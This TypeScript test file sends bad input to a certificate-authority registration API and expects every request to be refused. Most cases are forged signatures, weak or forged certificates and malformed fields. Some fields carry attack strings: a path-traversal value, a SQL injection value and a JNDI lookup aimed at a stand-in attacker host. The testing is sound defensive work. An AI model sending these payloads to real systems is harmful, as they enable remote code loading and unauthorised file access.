/**
 * Bad input against `POST /caRegister` of the JitrDemo and JitpDemo stacks on the stack runner
 * (nothing of ours mocked: API Gateway with SigV4 and the request model, the CA registrator's
 * bundled handler, the local AWS IoT and S3): every refusal is a 4xx that names the field (or
 * API Gateway's 403 for a caller it does not let in), never a 5xx or a stack trace, and nothing
 * changes in the registry or the vault. The table of what was tried and what each got is
 * doc/security-review.md's (UPDATE_SECURITY_REVIEW=1 rewrites it from here).
 */
import { rmSync } from 'node:fs';
import { GetRegistrationCodeCommand } from '@aws-sdk/client-iot';
import { Attempt, checkReviewTable, cloudState, DemoCloud, describeHttpCases, HttpCase, Signing, startDemoCloud } from './support/bad-input';
import { BadPki, forged } from './support/bad-pki';
import { synthesizeJitpDemo } from '../demo/support/jitp-demo-assembly';
import { synthesizeJitrDemo } from '../demo/support/jitr-demo-assembly';

jest.setTimeout(120_000);

const STACKS = ['JitrDemo', 'JitpDemo'] as const;
const pki = new BadPki();
const attempts: Attempt[] = [];
const cdkOuts: string[] = [];
let cloud: DemoCloud;
let before: string;
let registrationCode: string;
const pem: Record<string, string> = {};

beforeAll(async () => {
  cdkOuts.push(synthesizeJitrDemo(), synthesizeJitpDemo());
  cloud = await startDemoCloud(cdkOuts);
  registrationCode = (await cloud.iot.send(new GetRegistrationCodeCommand({}))).registrationCode!;
  pem.goodCa = pki.ca('good-ca', ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256']);
  pem.otherCa = pki.ca('other-ca', ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256']);
  // The same name as good-ca, another key: what an attacker without good-ca's key can make.
  pki.ca('impostor-ca', ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256'], [], 'good-ca');
  pem.rsa1024Ca = pki.ca('rsa1024-ca', ['-newkey', 'rsa:1024']);
  pem.sha1Ca = pki.ca('sha1-ca', ['-newkey', 'rsa:2048', '-sha1']);
  pem.ed25519Ca = pki.ed25519Ca('ed25519-ca');
  pem.notCa = pki.leaf('not-a-ca');
  pem.expiredCa = await pki.expiredCa();
  pem.csr = pki.csr(['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256']);
  pem.verification = pki.verification(registrationCode, 'good-ca');
  pem.verificationOtherKey = pki.verification(registrationCode, 'impostor-ca');
  pem.verificationWrongName = pki.verification('not-the-registration-code', 'good-ca');
  before = await cloudState(cloud);
}, 240_000);

afterAll(async () => {
  await cloud?.close();
  pki.dispose();
  for (const out of cdkOuts) rmSync(out, { recursive: true, force: true });
});

const importing = (extra: Record<string, unknown>) => ({ caCertificatePem: pem.goodCa, verificationCertificatePem: pem.verification, ...extra });

const CASES: HttpCase[] = [
  // Who may call: IAM (SigV4) with execute-api:Invoke on the method.
  { tried: 'no signature', body: () => ({}), auth: 'unsigned', status: 403 },
  { tried: 'a signature with one character changed', body: () => ({}), auth: 'signature', status: 403 },
  { tried: 'the body changed after signing', body: () => ({}), auth: 'body-after-signing', status: 403 },
  { tried: 'signed with a wrong secret key', body: () => ({}), auth: 'wrong-secret', status: 403 },
  { tried: 'signed with an access key nobody issued', body: () => ({}), auth: 'unknown-key', status: 403 },
  { tried: 'signed an hour ago (replayed)', body: () => ({}), auth: 'stale-date', status: 403 },
  { tried: 'signed by a role of the stack with no grant on the API (the activator\'s)', body: () => ({}), auth: 'no-grant', status: 403 },
  // Other routes of the API.
  { tried: 'GET /caRegister', body: () => undefined, method: 'GET', status: 403 },
  { tried: 'POST /caRegister/x (no such resource)', body: () => ({}), path: '/caRegister/x', status: 403 },
  { tried: 'POST / (no method there)', body: () => ({}), path: '/', status: 403 },
  // Malformed bodies.
  { tried: 'not JSON (`{"csrSubjects":`)', body: () => '{"csrSubjects":', status: 400, field: 'body' },
  { tried: 'a JSON array', body: () => '[]', status: 400, field: 'body' },
  { tried: 'a JSON string', body: () => '"caRegister"', status: 400, field: 'body' },
  {
    tried: 'a body over 64 KiB (valid JSON: one field, then 70 KiB of spaces)',
    body: () => `{"csrSubjects":{"commonName":"x"}${' '.repeat(70 * 1024)}}`,
    status: 400,
    field: 'body',
    code: 'BodyTooLarge',
  },
  { tried: 'an unknown field', body: () => ({ csrSubjects: { commonName: 'CA' }, owner: 'me' }), status: 400, field: 'owner' },
  { tried: 'an unknown subject field (emailAddress)', body: () => ({ csrSubjects: { emailAddress: 'a@b.c' } }), status: 400, field: 'csrSubjects.emailAddress' },
  // Wrong types and values.
  { tried: 'csrSubjects a string', body: () => ({ csrSubjects: 'CN=CA' }), status: 400, field: 'csrSubjects' },
  { tried: 'csrSubjects.commonName a number', body: () => ({ csrSubjects: { commonName: 42 } }), status: 400, field: 'csrSubjects.commonName' },
  { tried: 'csrSubjects.commonName of 65 characters', body: () => ({ csrSubjects: { commonName: 'c'.repeat(65) } }), status: 400, field: 'csrSubjects.commonName' },
  { tried: 'csrSubjects.countryName "Germany"', body: () => ({ csrSubjects: { countryName: 'Germany' } }), status: 400, field: 'csrSubjects.countryName' },
  { tried: 'keyAlgorithm RSA-1024', body: () => ({ keyAlgorithm: 'RSA-1024' }), status: 400, field: 'keyAlgorithm' },
  { tried: 'keyAlgorithm Ed25519', body: () => ({ keyAlgorithm: 'Ed25519' }), status: 400, field: 'keyAlgorithm' },
  { tried: 'validityDays 0', body: () => ({ validityDays: 0 }), status: 400, field: 'validityDays' },
  { tried: 'validityDays 1.5', body: () => ({ validityDays: 1.5 }), status: 400, field: 'validityDays' },
  { tried: 'validityDays "30" (a string)', body: () => ({ validityDays: '30' }), status: 400, field: 'validityDays' },
  { tried: 'validityDays 100000', body: () => ({ validityDays: 100000 }), status: 400, field: 'validityDays' },
  { tried: 'certificateMode BOGUS', body: () => ({ certificateMode: 'BOGUS' }), status: 400, field: 'certificateMode' },
  { tried: 'verifierName that no verifier has', body: () => ({ verifierName: 'nobody' }), status: 400, field: 'verifierName' },
  // Injection-looking strings and unicode.
  { tried: 'verifierName `../../etc/passwd`', body: () => ({ verifierName: '../../etc/passwd' }), status: 400, field: 'verifierName' },
  { tried: 'verifierName `allowList\' OR \'1\'=\'1`', body: () => ({ verifierName: 'allowList\' OR \'1\'=\'1' }), status: 400, field: 'verifierName' },
  { tried: 'verifierName `allowList` with a zero-width space', body: () => ({ verifierName: 'allowList\u200b' }), status: 400, field: 'verifierName' },
  { tried: 'keyAlgorithm `${jndi:ldap://attacker.example/a}`', body: () => ({ keyAlgorithm: '${jndi:ldap://attacker.example/a}' }), status: 400, field: 'keyAlgorithm' },
  { tried: 'csrSubjects.commonName with a NUL character', body: () => ({ csrSubjects: { commonName: 'CA\u0000admin' } }), status: 400, field: 'csrSubjects.commonName' },
  { tried: 'csrSubjects.commonName with a line break', body: () => ({ csrSubjects: { commonName: 'CA\nCN=admin' } }), status: 400, field: 'csrSubjects.commonName' },
  { tried: 'csrSubjects.commonName with an escape sequence', body: () => ({ csrSubjects: { commonName: 'CA\u001b[2J' } }), status: 400, field: 'csrSubjects.commonName' },
  { tried: 'csrSubjects.organizationName with a lone surrogate', body: () => ({ csrSubjects: { organizationName: 'Acme \ud800' } }), status: 400, field: 'csrSubjects.organizationName' },
  // Bring your own CA: bad PEM.
  { tried: 'caCertificatePem not PEM', body: () => importing({ caCertificatePem: 'MIIB...' }), status: 400, field: 'caCertificatePem' },
  { tried: 'caCertificatePem a CSR', body: () => importing({ caCertificatePem: pem.csr }), status: 400, field: 'caCertificatePem' },
  { tried: 'caCertificatePem two certificates', body: () => importing({ caCertificatePem: pem.goodCa + pem.otherCa }), status: 400, field: 'caCertificatePem' },
  { tried: 'caCertificatePem cut short', body: () => importing({ caCertificatePem: `${pem.goodCa.slice(0, 200)}\n-----END CERTIFICATE-----\n` }), status: 400, field: 'caCertificatePem' },
  { tried: 'caCertificatePem of 20 KB', body: () => importing({ caCertificatePem: `-----BEGIN CERTIFICATE-----\n${'A'.repeat(20_000)}\n-----END CERTIFICATE-----` }), status: 400, field: 'caCertificatePem' },
  { tried: 'caCertificatePem a number', body: () => importing({ caCertificatePem: 7 }), status: 400, field: 'caCertificatePem' },
  // Bring your own CA: certificates AWS IoT must not get.
  { tried: 'a CA with an RSA-1024 key', body: () => importing({ caCertificatePem: pem.rsa1024Ca }), status: 400, field: 'caCertificatePem' },
  { tried: 'a CA with an Ed25519 key', body: () => importing({ caCertificatePem: pem.ed25519Ca }), status: 400, field: 'caCertificatePem' },
  { tried: 'a CA signed with SHA-1', body: () => importing({ caCertificatePem: pem.sha1Ca }), status: 400, field: 'caCertificatePem' },
  { tried: 'a certificate that is no CA (basicConstraints CA:FALSE)', body: () => importing({ caCertificatePem: pem.notCa }), status: 400, field: 'caCertificatePem' },
  { tried: 'a CA whose self-signature is forged', body: () => importing({ caCertificatePem: forged(pem.goodCa) }), status: 400, field: 'caCertificatePem' },
  { tried: 'an expired CA', body: () => importing({ caCertificatePem: pem.expiredCa }), status: 400, field: 'caCertificatePem' },
  // Proof of possession of the CA key.
  { tried: 'no verificationCertificatePem (DEFAULT mode)', body: () => ({ caCertificatePem: pem.goodCa }), status: 400, field: 'verificationCertificatePem' },
  {
    tried: 'a verification certificate signed by another key',
    body: () => importing({ verificationCertificatePem: pem.verificationOtherKey }),
    status: 400,
    field: 'verificationCertificatePem',
  },
  {
    tried: 'a verification certificate whose CN is not the registration code',
    body: () => importing({ verificationCertificatePem: pem.verificationWrongName }),
    status: 400,
    field: 'verificationCertificatePem',
  },
  {
    tried: 'a verification certificate whose signature is forged',
    body: () => importing({ verificationCertificatePem: forged(pem.verification) }),
    status: 400,
    field: 'verificationCertificatePem',
  },
  { tried: 'a verification certificate in SNI_ONLY mode', body: () => importing({ certificateMode: 'SNI_ONLY' }), status: 400, field: 'verificationCertificatePem' },
  { tried: 'generate fields (keyAlgorithm) with caCertificatePem', body: () => importing({ keyAlgorithm: 'ECDSA-P256' }), status: 400, field: 'keyAlgorithm' },
  {
    tried: 'verificationCertificatePem without caCertificatePem',
    body: () => ({ verificationCertificatePem: pem.verification }),
    status: 400,
    field: 'verificationCertificatePem',
  },
];

function signingFor(auth: string): Signing {
  const { runner } = cloud;
  switch (auth) {
    case 'unsigned': return { unsigned: true };
    case 'allowed': return { as: runner.adminCredentials };
    case 'no-grant': {
      const activator = runner.resourcesOfType('AWS::IAM::Role').find((role) => role.logicalId.startsWith('JitrActivatorHandlerRole'))!;
      return { as: runner.iam.credentialsFor(String(activator.attributes.Arn)) };
    }
    default: return { as: runner.adminCredentials, tamper: auth as 'signature' };
  }
}

describeHttpCases({
  endpoint: 'POST /caRegister',
  cases: CASES,
  stacks: STACKS,
  url: (stackName, path) => cloud.runner.localUrl(cloud.outputs(stackName).CaRegisterUrl).replace(/\/caRegister$/, path ?? '/caRegister'),
  signing: signingFor,
  region: () => cloud.runner.region,
  attempts,
});

test('nothing changed: no CA, certificate, thing or policy in the registry, no object in the vault', async () => {
  expect(await cloudState(cloud)).toEqual(before);
  expect(cloud.functionLog.join('\n')).not.toMatch(/\n\s+at /);
});

test('doc/security-review.md lists what was tried and what each got', () => {
  expect(attempts).toHaveLength(CASES.length);
  checkReviewTable('caRegister', attempts);
});
